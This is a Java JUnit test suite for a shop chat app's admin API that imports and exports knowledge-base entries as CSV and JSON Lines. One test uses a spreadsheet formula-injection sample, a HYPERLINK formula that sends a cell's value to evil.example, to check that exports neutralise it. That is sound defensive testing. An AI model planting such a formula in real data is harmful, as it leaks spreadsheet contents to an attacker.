package com.shopchat.admin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.shopchat.support.AdminClient;
import com.shopchat.support.TestServer;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ExtendWith(VertxExtension.class)
@DisplayName("Importing and exporting the knowledge base")
class KnowledgeImportApiTest {

  private static final String EMAIL = "importer@shop.test";
  private static final String PASSWORD = "a long enough admin password";

  private static TestServer server;
  private static AdminClient admin;

  @BeforeAll
  static void start(Vertx vertx) throws Exception {
    server = TestServer.start(vertx, Map.of("ADMIN_EMAIL", EMAIL, "ADMIN_PASSWORD", PASSWORD));
    admin = new AdminClient(vertx, server.port()).loggedIn(EMAIL, PASSWORD);
  }

  @AfterAll
  static void stop(Vertx vertx) throws Exception {
    server.stop(vertx);
  }

  private static long entries(String idPrefix) throws Exception {
    return server.count("SELECT count(*) FROM knowledge_entries WHERE id LIKE $1", idPrefix + "%");
  }

  private static JsonArray rows(HttpResponse<Buffer> response) {
    assertEquals(400, response.statusCode(), response.bodyAsString());
    JsonObject error = response.bodyAsJsonObject().getJsonObject("error");
    assertEquals("invalid_rows", error.getString("code"));
    return error.getJsonArray("rows");
  }

  @Test
  @DisplayName("a CSV with one bad row is refused with 400 naming its line, and none of its rows is stored")
  void csvWithBadRowCommitsNothing() throws Exception {
    String csv = """
      id,locale,title,questions,answer,tags,category,status
      kb-bad-1,en,Good row,how do i do it|how to,"Like this, then that.",help,guide,published
      kb-bad-2,fr,Bad locale,q,An answer,,,draft
      kb-bad-3,en,Good too,q,Another answer,,,
      """;
    JsonArray rows = rows(admin.postText("/api/admin/kb/import?format=csv", "text/csv", csv));
    assertEquals(1, rows.size(), rows.encode());
    assertEquals(3, rows.getJsonObject(0).getInteger("line"));
    assertTrue(rows.getJsonObject(0).getString("message").contains("locale"));
    assertEquals(0, entries("kb-bad-"));
  }

  @Test
  @DisplayName("a JSON Lines file with bad rows lists each bad line (not JSON, missing answer, repeated id)")
  void jsonlBadRows() throws Exception {
    String jsonl = """
      {"id":"kb-jbad-1","locale":"en","title":"T","answer":"A"}
      not json

      {"id":"kb-jbad-2","locale":"en","title":"T"}
      {"id":"kb-jbad-1","locale":"en","title":"T","answer":"A"}
      """;
    JsonArray rows = rows(admin.postText("/api/admin/kb/import?format=jsonl", "application/x-ndjson", jsonl));
    assertEquals(3, rows.size(), rows.encode());
    assertEquals(2, rows.getJsonObject(0).getInteger("line"));
    assertEquals(4, rows.getJsonObject(1).getInteger("line"));
    assertEquals(5, rows.getJsonObject(2).getInteger("line"));
    assertEquals(0, entries("kb-jbad-"));
  }

  @Test
  @DisplayName("a good CSV is imported: quoted commas, quotes and line breaks kept, items split on |, published rows searchable")
  void importsCsv() throws Exception {
    String csv = "id,locale,title,questions,answer,tags,category,status\r\n"
      + "kb-csv-1,en,\"Bikes, scooters\",where can i park my bike|bike rack at the store,"
      + "\"Bike racks are by the \"\"north\"\" door.\nThey are free.\",bike|parking,stores,published\r\n"
      + "kb-csv-2,zh,自行车,自行车停在哪里,门口有自行车架。,,,\r\n";
    HttpResponse<Buffer> response = admin.postText("/api/admin/kb/import?format=csv", "text/csv", csv);
    assertEquals(200, response.statusCode(), response.bodyAsString());
    assertEquals(new JsonObject().put("imported", 2).put("published", 1), response.bodyAsJsonObject());
    JsonObject bikes = admin.get("/api/admin/kb/kb-csv-1").bodyAsJsonObject();
    assertEquals("Bikes, scooters", bikes.getString("title"));
    assertEquals("Bike racks are by the \"north\" door.\nThey are free.", bikes.getString("answer"));
    assertEquals(new JsonArray().add("where can i park my bike").add("bike rack at the store"),
      bikes.getJsonArray("questions"));
    assertEquals(new JsonArray().add("bike").add("parking"), bikes.getJsonArray("tags"));
    assertEquals("import", bikes.getJsonArray("revisions").getJsonObject(0).getString("action"));
    assertEquals("draft", server.string("SELECT status FROM knowledge_entries WHERE id = 'kb-csv-2'"));
    var hits = server.app().knowledge().search("where can i park my bike", "en", 1).await(10, TimeUnit.SECONDS);
    assertEquals("kb-csv-1", hits.get(0).entry().id());
  }

  @Test
  @DisplayName("a good JSON Lines file is imported; an id that exists is overwritten as a new revision")
  void importsJsonl() throws Exception {
    String jsonl = """
      {"id":"kb-jsonl-1","locale":"en","title":"Opening hours","questions":["when are you open"],"answer":"9 to 6.","status":"published"}
      {"id":"kb-en-gift-wrapping","locale":"en","title":"Gift wrapping","answer":"Gift wrapping is free in December.","tags":["gift"],"status":"published"}
      """;
    HttpResponse<Buffer> response = admin.postText("/api/admin/kb/import?format=jsonl", "application/x-ndjson", jsonl);
    assertEquals(200, response.statusCode(), response.bodyAsString());
    assertEquals(2, response.bodyAsJsonObject().getInteger("imported"));
    assertEquals("9 to 6.", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-jsonl-1'"));
    assertEquals(2L, server.count("SELECT count(*) FROM knowledge_revisions WHERE entry_id = 'kb-en-gift-wrapping'"));
    assertEquals("Gift wrapping is free in December.",
      server.app().knowledge().entry("kb-en-gift-wrapping").await(1, TimeUnit.SECONDS).answer());
  }

  @Test
  @DisplayName("refuses an import without a format, or with a CSV header that lacks required columns")
  void refusesBadFiles() throws Exception {
    HttpResponse<Buffer> noFormat = admin.postText("/api/admin/kb/import", "text/csv", "id\n");
    assertEquals(400, noFormat.statusCode());
    assertEquals("invalid_parameter", noFormat.bodyAsJsonObject().getJsonObject("error").getString("code"));
    JsonArray rows = rows(admin.postText("/api/admin/kb/import?format=csv", "text/csv", "id,title\nx,y\n"));
    assertEquals(1, rows.getJsonObject(0).getInteger("line"));
  }

  @Test
  @DisplayName("exports every entry as JSON Lines and CSV that import again unchanged")
  void exportsRoundTrip() throws Exception {
    HttpResponse<Buffer> jsonl = admin.get("/api/admin/kb/export?format=jsonl");
    assertEquals(200, jsonl.statusCode());
    assertTrue(jsonl.getHeader("Content-Type").startsWith("application/x-ndjson"));
    long total = server.count("SELECT count(*) FROM knowledge_entries");
    assertEquals(total, jsonl.bodyAsString().lines().count());
    HttpResponse<Buffer> csv = admin.get("/api/admin/kb/export?format=csv");
    assertTrue(csv.bodyAsString().startsWith("id,locale,title,questions,answer,tags,category,status\r\n"));
    String before = server.string("SELECT string_agg(id || status || answer || questions::text, '|' ORDER BY id) "
      + "FROM knowledge_entries");
    HttpResponse<Buffer> again = admin.postText("/api/admin/kb/import?format=csv", "text/csv", csv.bodyAsString());
    assertEquals(200, again.statusCode(), again.bodyAsString());
    assertEquals(before, server.string("SELECT string_agg(id || status || answer || questions::text, '|' "
      + "ORDER BY id) FROM knowledge_entries"));
  }

  private static JsonObject entry(String id, String title, JsonArray questions, String answer, JsonArray tags,
                                  String category) {
    return new JsonObject().put("id", id).put("locale", "en").put("title", title).put("questions", questions)
      .put("answer", answer).put("tags", tags).put("category", category).put("status", "draft");
  }

  /** The CSV export's record for this id, by column name. */
  private static Map<String, String> exported(List<CsvRecord> csv, String id) {
    List<String> header = csv.get(0).fields();
    CsvRecord record = csv.stream().filter(r -> r.fields().get(0).equals(id)).findFirst().orElseThrow();
    Map<String, String> row = new HashMap<>();
    for (int i = 0; i < header.size(); i++) {
      row.put(header.get(i), record.fields().get(i));
    }
    return row;
  }

  /** The physical lines of the records whose first field passes, exactly as the file has them. */
  private static String recordsOf(String text, List<CsvRecord> records, Predicate<String> wanted) {
    String[] lines = text.split("\n", -1);
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < records.size(); i++) {
      int end = i + 1 < records.size() ? records.get(i + 1).line() - 1 : lines.length - 1;
      if (wanted.test(records.get(i).fields().get(0))) {
        for (int line = records.get(i).line() - 1; line < end; line++) {
          out.append(lines[line]).append('\n');
        }
      }
    }
    return out.toString();
  }

  private static String injectionRows() throws Exception {
    return server.string("SELECT string_agg(id || '/' || title || '/' || answer || '/' || questions::text || '/' "
      + "|| tags::text || '/' || coalesce(category, '-'), E'\\n' ORDER BY id) FROM knowledge_entries "
      + "WHERE id LIKE 'kb-inj-%'");
  }

  @Test
  @DisplayName("CSV export puts a quote before cells a spreadsheet would run (= + - @ tab CR), and import takes it off")
  void csvInjectionNeutralisedAndRoundTrips() throws Exception {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
    String jsonl = String.join("\n",
      entry("kb-inj-formula", "@SUM(1+1)", new JsonArray().add("=1+1").add("how much is -10% off"), hyperlink,
        new JsonArray().add("+tag").add("sale"), "-cat").encode(),
      entry("kb-inj-sale", "Spring sale", new JsonArray().add("is there a discount"),
        "-10% off everything this week.", new JsonArray(), null).encode(),
      entry("kb-inj-quotes", "'tis the season", new JsonArray().add("q"), "'=already quoted", new JsonArray(),
        null).encode(),
      entry("kb-inj-tab", "Tab", new JsonArray().add("q"), "\tTab first", new JsonArray(), null).encode(),
      entry("kb-inj-cr", "CR", new JsonArray().add("q"), "\r\nA line break first", new JsonArray(), null).encode());
    HttpResponse<Buffer> imported = admin.postText("/api/admin/kb/import?format=jsonl", "application/x-ndjson",
      jsonl);
    assertEquals(200, imported.statusCode(), imported.bodyAsString());
    String before = injectionRows();

    String text = admin.get("/api/admin/kb/export?format=csv").bodyAsString();
    List<CsvRecord> csv = CsvRecord.parse(text);
    Map<String, String> formula = exported(csv, "kb-inj-formula");
    assertEquals("'" + hyperlink, formula.get("answer"));
    assertEquals("'@SUM(1+1)", formula.get("title"));
    assertEquals("'=1+1|how much is -10% off", formula.get("questions"));
    assertEquals("'+tag|sale", formula.get("tags"));
    assertEquals("'-cat", formula.get("category"));
    assertEquals("'-10% off everything this week.", exported(csv, "kb-inj-sale").get("answer"));
    assertEquals("'tis the season", exported(csv, "kb-inj-quotes").get("title"), "a quote before text stays as is");
    assertEquals("''=already quoted", exported(csv, "kb-inj-quotes").get("answer"));
    assertEquals("'\tTab first", exported(csv, "kb-inj-tab").get("answer"));
    assertEquals("'\r\nA line break first", exported(csv, "kb-inj-cr").get("answer"));
    for (CsvRecord record : csv) {
      for (String cell : record.fields()) {
        assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
          "line " + record.line() + " has a cell a spreadsheet would run: " + cell);
      }
    }

    // The export imports back unchanged: each quote the export added is taken off, no other. (Only these rows:
    // importing every entry again would add revisions other tests count.)
    HttpResponse<Buffer> again = admin.postText("/api/admin/kb/import?format=csv", "text/csv",
      recordsOf(text, csv, id -> id.equals("id") || id.startsWith("kb-inj-")));
    assertEquals(200, again.statusCode(), again.bodyAsString());
    assertEquals(before, injectionRows());
    JsonObject sale = admin.get("/api/admin/kb/kb-inj-sale").bodyAsJsonObject();
    assertEquals("-10% off everything this week.", sale.getString("answer"));
    assertEquals(hyperlink, admin.get("/api/admin/kb/kb-inj-formula").bodyAsJsonObject().getString("answer"));

    // A file made elsewhere: the quote comes off only before = + - @ tab or CR; a bare -10% is kept as typed.
    String hand = "id,locale,title,answer\n"
      + "kb-hand-1,en,Quoted formula,'=1+1\n"
      + "kb-hand-2,en,Quoted word,'tis fine\n"
      + "kb-hand-3,en,Bare minus,-10% off\n"
      + "kb-hand-4,en,Lone quote,'\n";
    HttpResponse<Buffer> handMade = admin.postText("/api/admin/kb/import?format=csv", "text/csv", hand);
    assertEquals(200, handMade.statusCode(), handMade.bodyAsString());
    assertEquals("=1+1", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-1'"));
    assertEquals("'tis fine", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-2'"));
    assertEquals("-10% off", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-3'"));
    assertEquals("'", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-4'"));
  }
}
